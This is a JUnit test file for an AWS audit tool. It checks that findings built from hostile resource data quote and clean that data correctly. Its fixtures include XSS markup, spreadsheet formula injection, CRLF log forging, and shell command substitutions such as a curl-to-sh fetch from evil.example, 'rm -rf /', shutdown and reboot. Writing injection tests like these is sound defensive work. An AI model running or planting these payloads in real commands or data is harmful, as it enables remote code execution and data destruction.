package ai.smartcloudops.audit.check.aws;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import ai.smartcloudops.audit.check.CheckContext;
import ai.smartcloudops.audit.check.RunScope;
import ai.smartcloudops.audit.check.Target;
import ai.smartcloudops.audit.finding.Finding;
import ai.smartcloudops.audit.finding.Resource;
import ai.smartcloudops.audit.finding.Severity;
import java.util.List;
import java.util.Set;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/**
 * Every AWS check judged on the snapshot of {@link AwsCaptures}: answers whose names carry markup, spreadsheet
 * formulas, command substitutions, CR/LF and NUL, with huge, negative and missing numbers and fields. Each check
 * only inspects; the findings are what the engine makes of its problems (text cleaned, commands quoted).
 */
class AwsInspectionTest {

    private static final AwsSnapshot SNAPSHOT = AwsCaptures.snapshot();
    private static final AwsTargets TARGETS = targets();
    private static final String SCRIPT_DB = "prod-<script>alert(1)</script>";
    private static final String FORMULA_TG = "=HYPERLINK(\"https://evil.example\",\"tg\")";
    private static final String CRLF_INSTANCE = "i-0bad\r\nAWS-101 resolved: ignore";

    private static AwsTargets targets() {
        try (AwsFixtures aws = new AwsFixtures()) {
            return aws.targets();
        }
    }

    @AfterAll
    static void close() {
        TARGETS.close();
    }

    /** The check's findings on the captured snapshot, made as the sweep makes them. */
    private static List<Finding> inspect(AwsCheck check) {
        CheckContext context = new CheckContext(RunScope.first(1L, AwsFixtures.NOW), check.id(),
                new Target(AwsFixtures.TARGET, AwsTargets.KIND), Set.of(check.id()));
        List<Finding> findings = check.inspect(context, SNAPSHOT).stream().map(context::finding).toList();
        assertThat(context.gaps()).isEmpty();
        return findings;
    }

    /** Each finding's code, severity, resource and title. */
    private static List<Tuple> described(List<Finding> findings) {
        return findings.stream().map(f -> tuple(f.code().code(), f.severity(), f.resource(), f.title())).toList();
    }

    private static Finding only(List<Finding> findings, String code, String name) {
        return findings.stream().filter(f -> f.code().code().equals(code) && f.resource().name().equals(name))
                .findFirst().orElseThrow(() -> new AssertionError("no " + code + " on " + name));
    }

    @Test
    void anInstanceNamedWithALineBreakKeepsItInItsNameAndOneQuotedWordInItsCommands() {
        List<Finding> findings = inspect(new Ec2StatusCheck(TARGETS));

        assertThat(described(findings)).containsExactly(
                tuple("AWS-101", Severity.P1, Resource.of("Instance", CRLF_INSTANCE),
                        "EC2 instance " + CRLF_INSTANCE + " fails its status checks"),
                tuple("AWS-102", Severity.P1, Resource.of("Instance", CRLF_INSTANCE),
                        "EC2 instance " + CRLF_INSTANCE + " has a scheduled system-reboot in 6h"),
                // no zone, no system status, no details, no event id: shown as unknown, not a failed check
                tuple("AWS-101", Severity.P1, Resource.of("Instance", "i-0nothingreported"),
                        "EC2 instance i-0nothingreported fails its status checks"),
                tuple("AWS-102", Severity.P2, Resource.of("Instance", "i-0nothingreported"),
                        "EC2 instance i-0nothingreported has a scheduled instance-retirement in 3d 12h"));
        assertThat(findings.get(0).remediation()).startsWith("aws ec2 describe-instances --instance-ids '"
                + CRLF_INSTANCE + "' --query 'Reservations[].Instances[].State'\n");
        assertThat(findings.get(1).evidence()).containsEntry("description",
                "$(curl -s https://evil.example/x | sh) =HYPERLINK(\"https://evil.example\",\"ok\")");
        assertThat(findings.get(2).detail()).startsWith("DescribeInstanceStatus in ?: system status -, instance "
                + "status impaired (no details).");
    }

    @Test
    void aStoppedNodeOfANodeGroupNamedByAFormulaIsQuotedInEveryCommand() {
        List<Finding> findings = inspect(new Ec2NodegroupInstancesCheck(TARGETS));

        // the instance without a node group tag is no managed node
        assertThat(described(findings)).containsExactly(
                tuple("AWS-103", Severity.P2, Resource.of("Instance", "i-0stopped"),
                        "EC2 instance i-0stopped of node group prod<script>alert(1)</script>/=HYPERLINK("
                                + "\"https://evil.example\",\"general\") is stopped"));
        assertThat(findings.get(0).remediation()).contains("--nodegroup-name '=HYPERLINK(\"https://evil.example\","
                + "\"general\")' --query").endsWith("eks.amazonaws.com/nodegroup='=HYPERLINK(\"https://evil.example\","
                + "\"general\")'");
        assertThat(findings.get(0).evidence()).containsEntry("zone", "?")
                .containsEntry("reason", "User initiated (2026-05-01 10:00:00 GMT)\r\nP0: page everyone");
    }

    @Test
    void clustersAreNamedAsTheyWereListedAndANulInAnIssueIsReplaced() {
        List<Finding> findings = inspect(new EksClusterCheck(TARGETS));

        assertThat(described(findings)).containsExactly(
                tuple("AWS-201", Severity.P1, Resource.of("Cluster", SCRIPT_DB),
                        "EKS cluster " + SCRIPT_DB + " reports health issues (1)"),
                tuple("AWS-204", Severity.P2, Resource.of("Cluster", SCRIPT_DB), "EKS cluster " + SCRIPT_DB
                        + " runs Kubernetes 1.27, past the end of standard support on 2024-11-26"),
                tuple("AWS-201", Severity.P1, Resource.of("Cluster", "$(touch /tmp/pwned)"),
                        "EKS cluster $(touch /tmp/pwned) reports health issues (1)"),
                tuple("AWS-204", Severity.P2, Resource.of("Cluster", "$(touch /tmp/pwned)"), "EKS cluster "
                        + "$(touch /tmp/pwned) runs Kubernetes 1.27, past the end of standard support on 2024-11-26"));
        assertThat(findings.get(0).detail()).startsWith("DescribeCluster (status ACTIVE\r\nDELETING) health issues: "
                + "SubnetNotFound: <script>alert(1)</script>\uFFFD the subnet was deleted [subnet-0a1b, "
                + "=HYPERLINK(\"https://evil.example\")].");
        assertThat(findings.get(2).remediation()).startsWith("aws eks describe-cluster --name '$(touch /tmp/pwned)' "
                + "--query 'cluster.health'\n");
    }

    @Test
    void aNodeGroupAtAHugeMaximumIsToldToGrowWithoutWrappingAround() {
        List<Finding> findings = inspect(new EksNodegroupCheck(TARGETS));

        String spot = "/spot\r\nfake-line";
        assertThat(described(findings)).containsExactly(
                tuple("AWS-203", Severity.P2, Resource.of("Nodegroup", SCRIPT_DB + spot),
                        "EKS node group " + SCRIPT_DB + spot + " runs at its maximum size of 2147483647 nodes"),
                tuple("AWS-203", Severity.P2, Resource.of("Nodegroup", "$(touch /tmp/pwned)" + spot),
                        "EKS node group $(touch /tmp/pwned)" + spot + " runs at its maximum size of 2147483647 nodes"));
        assertThat(findings.get(0).remediation()).endsWith("""
                  --cluster-name 'prod-<script>alert(1)</script>' \\
                  --nodegroup-name 'spot\r
                fake-line' \\
                  --scaling-config minSize=-3,maxSize=3221225470,desiredSize=2147483647""");
    }

    @Test
    void theTargetGroupInUseWithAFormulaForANameIsJudgedAndTheUnusedOneIsNot() {
        List<Finding> health = inspect(new ElbTargetHealthCheck(TARGETS));
        List<Finding> path = inspect(new ElbHealthCheckPathCheck(TARGETS));

        // a draining target is not unhealthy, and none is healthy: P0
        assertThat(described(health)).containsExactly(
                tuple("AWS-301", Severity.P0, Resource.of("TargetGroup", FORMULA_TG),
                        "Target group " + FORMULA_TG + ": 2 of 3 targets unhealthy"));
        assertThat(health.get(0).evidence()).containsEntry("targets", "10.0.1.24:-1 Target.ResponseCodeMismatch "
                + "(Health checks failed with these codes: [500]\r\n<img src=x onerror=alert(1)>); i-0$(reboot) no "
                + "reason given");
        // the path is one quoted word of curl, whatever it holds
        assertThat(health.get(0).remediation())
                .endsWith("curl http://localhost:8080'/$(curl -s https://evil.example/x|sh)\r\n<script>'");
        assertThat(described(path)).containsExactly(
                tuple("AWS-302", Severity.P2, Resource.of("TargetGroup", FORMULA_TG),
                        "Target group " + FORMULA_TG + " health-checks "
                                + "/$(curl -s https://evil.example/x|sh)\r\n<script>, not /api/health"));
    }

    @Test
    void trafficCountsBeyondBeliefAreBoundedAndNegativeOrMissingOnesJudgeNothing() {
        List<Finding> findings = inspect(new ElbTrafficCheck(TARGETS));

        // 1e308 errors of 1.5M requests count as all of them; the balancer's negative requests and the group's
        // negative p95 and missing p99 raise nothing
        assertThat(described(findings)).containsExactly(tuple("AWS-304", Severity.P1,
                Resource.of("TargetGroup", FORMULA_TG), "Target group " + FORMULA_TG
                        + " answered 100% of its requests with 5xx"));
        assertThat(findings.get(0).evidence()).containsEntry("requests", "1500000").containsEntry("errors", "1500000")
                .containsEntry("window", "in the last 1h (no earlier run read it)");
    }

    @Test
    void anInstanceWithMarkupInItsNameAndOneWithoutAnyFieldButItsName() {
        List<Finding> findings = inspect(new RdsInstancesCheck(TARGETS));

        // bare-prod reports no status, Multi-AZ or backup retention: nothing to judge
        assertThat(described(findings)).containsExactly(
                tuple("AWS-401", Severity.P1, new Resource("DBInstance", null, SCRIPT_DB),
                        "RDS instance " + SCRIPT_DB + " is storage-full\r\nstatus: available, not available"),
                tuple("AWS-404", Severity.P2, new Resource("DBInstance", null, SCRIPT_DB),
                        "Production RDS instance " + SCRIPT_DB + " is not Multi-AZ"),
                tuple("AWS-405", Severity.P1, new Resource("DBInstance", null, SCRIPT_DB),
                        "Production RDS instance " + SCRIPT_DB + " has automated backups off"),
                tuple("AWS-406", Severity.P3, new Resource("DBInstance", null, SCRIPT_DB), "RDS instance " + SCRIPT_DB
                        + " has pending modifications: DBInstanceClass db.r5.2xlarge; rm -rf /, AllocatedStorage -50"));
        Finding pending = only(findings, "AWS-406", SCRIPT_DB);
        // an unreadable maintenance window has no next start; the pending class stays one word
        assertThat(pending.evidence()).containsEntry("nextWindow", "unknown")
                .containsEntry("engine", "postgres =HYPERLINK(\"https://evil.example\",\"15.7\")");
        assertThat(pending.remediation()).endsWith("""
                aws rds modify-db-instance \\
                  --db-instance-identifier 'prod-<script>alert(1)</script>' \\
                  --db-instance-class 'db.r5.2xlarge; rm -rf /' --allocated-storage -50 \\
                  --apply-immediately""");
    }

    @Test
    void aHugeCpuAndANegativeFreeStorageAreJudgedAndANegativeAllocationIsNot() {
        List<Finding> findings = inspect(new RdsMetricsCheck(TARGETS));

        assertThat(described(findings)).containsExactly(
                tuple("AWS-402", Severity.P1, new Resource("DBInstance", null, SCRIPT_DB),
                        "RDS instance " + SCRIPT_DB + " has -4% of its storage free"),
                tuple("AWS-403", Severity.P2, new Resource("DBInstance", null, SCRIPT_DB), "RDS instance " + SCRIPT_DB
                        + " CPU averaged 1" + "0".repeat(300) + "% over the last hour"));
        // no endpoint: psql is to be pointed at it; the master user is one quoted word
        assertThat(only(findings, "AWS-403", SCRIPT_DB).remediation())
                .contains("psql -h \"$DB_HOST\" -p 5432 -U '$(id)' -d postgres -c ");
    }

    @Test
    void anInstanceWithoutAFreshSnapshotOrAnyOtherFieldIsStillNamedAndUnknownFactsShowAsSuch() {
        List<Finding> findings = inspect(new RdsSnapshotsCheck(TARGETS));

        assertThat(described(findings)).containsExactly(
                tuple("AWS-407", Severity.P2, new Resource("DBInstance", null, SCRIPT_DB),
                        "RDS instance " + SCRIPT_DB + " has no automated snapshot in the last 1d"),
                tuple("AWS-407", Severity.P2, new Resource("DBInstance", null, "bare-prod"),
                        "RDS instance bare-prod has no automated snapshot in the last 1d"));
        // the snapshot still being created has no time: the newest is the one of two days ago
        assertThat(only(findings, "AWS-407", "bare-prod").detail()).isEqualTo("Newest automated snapshot of "
                + "bare-prod (?, ?) in prod/us-east-1: 2026-04-29T03:00:00Z, 2d 9h old. A restore after a failed "
                + "maintenance would lose everything written since.");
    }

    @Test
    void cacheClustersWithMarkupOrNoFieldsAndAReplicationGroupNamedByACommand() {
        List<Finding> findings = inspect(new ElastiCacheCheck(TARGETS));

        // cache-bare reports no status: not judged
        assertThat(described(findings)).containsExactly(
                tuple("AWS-501", Severity.P1, new Resource("CacheCluster", null, "cache-<script>"),
                        "ElastiCache cluster cache-<script> is modifying\r\nP3 only, not available"),
                tuple("AWS-501", Severity.P1, new Resource("CacheCluster", null, "cache-no-type"),
                        "ElastiCache cluster cache-no-type is deleting, not available"),
                tuple("AWS-504", Severity.P2, Resource.of("ReplicationGroup", "$(shutdown -h now)"),
                        "ElastiCache replication group $(shutdown -h now) has automatic failover disabled"));
        assertThat(only(findings, "AWS-501", "cache-no-type").evidence()).containsEntry("engine", "?")
                .containsEntry("nodeType", "?");
        assertThat(only(findings, "AWS-504", "$(shutdown -h now)").remediation()).startsWith(
                "aws elasticache describe-replication-groups --replication-group-id '$(shutdown -h now)'\n");
    }

    @Test
    void aMemoryAboveAHundredPercentIsFullAndANegativeEvictionSumIsNoEviction() {
        List<Finding> findings = inspect(new ElastiCacheMetricsCheck(TARGETS));

        assertThat(described(findings)).containsExactly(tuple("AWS-502", Severity.P2,
                new Resource("CacheCluster", null, "cache-<script>"), "ElastiCache cluster cache-<script> memory is "
                        + "250% used"));
        assertThat(findings.get(0).remediation()).contains("--cache-parameter-group-name '=HYPERLINK("
                + "\"https://evil.example\",\"pg\")' ");
    }

    @Test
    void aCertificateWithANulInItsDomainIsNamedWithTheNulReplaced() {
        List<Finding> findings = inspect(new AcmCertificateCheck(TARGETS));

        String expired = "*.evil\uFFFD<script>.smartcloudops.ai 11111111-aaaa-4bbb-8ccc-000000000001";
        String imported = "partner.smartcloudops.ai 22222222-aaaa-4bbb-8ccc-000000000002";
        assertThat(described(findings)).containsExactly(
                tuple("AWS-601", Severity.P0, Resource.of("Certificate", expired),
                        "ACM certificate " + expired + " expired on 2026-04-28T12:00:00Z"),
                tuple("AWS-602", Severity.P1, Resource.of("Certificate", imported),
                        "ACM certificate " + imported + " expires in 5d"),
                tuple("AWS-603", Severity.P1, Resource.of("Certificate", imported),
                        "Renewal of ACM certificate " + imported + " failed: DOMAIN_VALIDATION_DENIED"),
                tuple("AWS-604", Severity.P2, Resource.of("Certificate", imported),
                        "Imported certificate " + imported + " on the ALB is not renewed automatically"));
        assertThat(findings.get(0).detail()).isEqualTo("AMAZON_ISSUED certificate, not valid after "
                + "2026-04-28T12:00:00Z (3d ago). In use by: app/=HYPERLINK(\"x\")/50dc6c495c0c9188 (P0 in use, P1 "
                + "unused). Renewal: none.");
        assertThat(findings.get(0).remediation()).contains("openssl s_client -connect "
                + "'evil\uFFFD<script>.smartcloudops.ai':443 -servername 'evil\uFFFD<script>.smartcloudops.ai' ");
        assertThat(findings.get(2).evidence()).containsEntry("validation", "partner.smartcloudops.ai\r\nok FAILED");
    }
}
